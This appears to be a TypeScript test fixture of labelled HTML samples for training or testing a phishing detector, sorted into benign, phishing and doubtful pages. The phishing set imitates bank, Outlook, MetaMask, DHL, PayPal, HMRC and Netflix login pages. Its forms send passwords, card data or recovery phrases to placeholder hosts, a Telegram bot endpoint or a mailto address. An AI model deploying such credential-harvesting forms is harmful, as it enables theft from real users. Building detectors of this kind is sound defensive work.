/** A labelled set of pages, made by us: what an honest publisher drops, and what a phishing kit looks like. */
const page = (title: string, body: string, head = ''): string =>
  `<!doctype html><html><head><title>${title}</title>${head}</head><body>${body}</body></html>`

export const goodPages: Readonly<Record<string, string>> = {
  'a portfolio': page('Ada, designer', '<h1>Ada</h1><p>I design books.</p><a href="https://github.com/ada">GitHub</a>'),
  'a wedding invitation with a reply form': page(
    'Join us',
    '<form action="/reply"><input name="name"><textarea name="message"></textarea><button>Send</button></form>',
  ),
  'an article about phishing': page(
    'How phishing works',
    '<p>A mail says: verify your account, your PayPal account has been suspended. Never enter your password there.</p>',
  ),
  'a landing page with sign-in links of a known service': page(
    'My app',
    '<p>Sign in with Google or Microsoft.</p><a href="https://accounts.google.com">Sign in</a>',
  ),
  'a demo of a login form that goes nowhere': page(
    'Login form demo',
    '<form onsubmit="return false"><label>Email <input type="email"></label><label>Password <input type="password"></label><button>Sign in</button></form>',
  ),
  'a newsletter form at a relay': page(
    'Newsletter',
    '<form action="https://formspree.io/f/abc"><input type="email" name="email"><button>Subscribe</button></form>',
  ),
  'a game with a lot of script': page(
    'Tetris',
    '<canvas id="c"></canvas>',
    `<script>${'var a=[0,1,2,3];'.repeat(200)}</script>`,
  ),
  'a moved page': page('Moved', '<p>We moved.</p><a href="https://example.org/new">Follow</a>'),
  'a recipe': page('Apple pie', '<h1>Apple pie</h1><ol><li>Peel the apples.</li><li>Bake.</li></ol>'),
  'a shop with card logos': page('Shop', '<p>We accept cards and PayPal at the checkout of our partner.</p>'),
  'documentation of an API with tokens': page(
    'API docs',
    '<pre>Authorization: Bearer TOKEN</pre><p>Keep your secret key safe.</p>',
  ),
  'a CV that names employers': page('CV', '<h1>Sam</h1><p>2019–2024 Amazon, Google, Netflix</p>'),
}

export const badPages: Readonly<Record<string, string>> = {
  'a bank login that posts elsewhere': page(
    'Chase Online',
    '<h1>Chase</h1><p>Verify your account</p><form action="https://collect.example/x.php" method="post"><input name="user"><input type="password" name="pass"></form>',
  ),
  'a mail login sent to a messenger': page(
    'Outlook Web',
    '<p>Your mailbox will be deactivated</p><form id="f"><input type="email"><input type="password"></form><script>fetch("https://api.telegram.org/bot123:abc/sendMessage")</script>',
  ),
  'a wallet that wants the recovery phrase': page(
    'MetaMask restore',
    '<p>Restore your wallet: enter your 12-word recovery phrase</p><textarea name="phrase"></textarea><form action="https://x.example/"><input type="password"></form>',
  ),
  'a parcel fee with card fields': page(
    'DHL',
    '<p>Confirm your payment of 1.99 to release the parcel</p><form action="https://pay.example.net/p"><input name="card-number"><input name="cvv"><input type="password" name="pin"></form>',
  ),
  'an encoded login page': page(
    'Microsoft',
    `<script>document.write(unescape("%3Cform%20action..."))</script><p>Sign in to Microsoft. Verify your identity</p><input type='password'>`,
  ),
  'a cloned sign-in with a hotlinked logo': page(
    'PayPal: log in',
    '<img src="https://www.paypalobjects.com/logo.svg" alt="PayPal"><form action="//evil.example/login"><input type="password"></form>',
  ),
  'a tax refund form': page(
    'HMRC refund',
    '<p>Confirm your identity to receive your refund</p><form action="https://r.example/f"><input name="ssn"><input type="password"></form>',
  ),
  'a login form that mails the password': page(
    'Netflix',
    '<p>Update your payment. Your account is suspended.</p><form action="mailto:me@example.com"><input type=password></form>',
  ),
  'a document viewer that wants a password': page(
    'SharePoint document',
    '<p>Sign in to view the OneDrive document. Unusual sign-in activity</p><form action="https://hook.example/a"><input type="email"><input type="password"></form><body oncontextmenu="return false">',
  ),
}

export const doubtfulPages: Readonly<Record<string, string>> = {
  'a brand beside a password field that stays here': page(
    'Sign in with Google',
    '<p>Google</p><form action="/login"><input type="password"></form>',
  ),
  'a seed phrase question without anything else': page(
    'Backup',
    '<p>Write down your recovery phrase</p><input name="words">',
  ),
}
